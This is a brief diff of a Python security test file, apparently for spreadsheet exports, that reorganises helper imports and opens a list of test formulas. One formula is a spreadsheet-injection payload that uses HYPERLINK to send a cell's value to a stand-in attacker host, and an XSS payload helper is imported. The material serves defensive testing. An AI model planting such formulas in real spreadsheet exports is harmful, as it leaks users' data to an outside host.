@@ -11,8 +11,8 @@ from openpyxl import load_workbook
 from agencies.models import Role
 from catalog.models import Collaboration
 from tests.factories import BusinessFactory, ProductFactory
-
-from .conftest import XSS, api_as, member, page_as, text_of
+from tests.helpers import member
+from tests.security.helpers import XSS, api_as, page_as, text_of
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
